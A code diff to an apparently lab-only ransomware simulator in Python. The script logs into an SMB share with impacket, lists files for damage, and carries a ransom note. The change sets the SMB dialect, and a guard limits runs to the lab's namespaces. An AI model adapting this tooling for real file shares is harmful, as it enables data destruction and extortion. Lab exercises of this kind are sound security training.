@@ -11,6 +11,7 @@ import random
 import socket
 import sys
 
+from impacket.smb3structs import SMB2_DIALECT_21
 from impacket.smbconnection import SMBConnection
 
 NOTE = "あなたのファイルは暗号化されました。\r\nYour files have been encrypted. This is a lab sample; nobody wants money.\r\n"
@@ -20,7 +21,7 @@ def main():
     server, share, folder, domain, user = sys.argv[1:]
     if not os.path.exists("/etc/town-env"):
         sys.exit("only for the lab's namespaces")
-    smb = SMBConnection(server, server, myName=socket.gethostname())
+    smb = SMBConnection(server, server, myName=socket.gethostname(), preferredDialect=SMB2_DIALECT_21)
     smb.login(user, os.environ["TOWN_PASSWORD"], domain)
     noise = random.Random(1)
     for entry in smb.listPath(share, folder + "\\*"):
